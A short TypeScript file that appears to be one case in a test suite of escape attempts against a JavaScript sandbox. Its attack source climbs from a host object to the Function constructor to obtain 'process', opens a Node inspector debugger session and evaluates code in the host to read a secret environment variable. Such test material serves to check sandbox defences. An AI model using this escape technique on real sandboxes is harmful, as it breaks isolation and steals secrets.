import { attack } from '../attack.ts';

/** The debugger's protocol evaluates in the host. */
export const escape = attack({
	grants: [],
	source: `
		const host = reach();
		const inspector = host?.constructor.constructor('return process')().getBuiltinModule('inspector');
		if (!inspector) return;
		const session = new inspector.Session();
		session.connect();
		return await new Promise((done) => session.post('Runtime.evaluate', { expression: 'process.env.GLOVEBOX_SECRET || hostSecret' }, (_error, answer) => done(answer?.result?.value)));
	`,
});
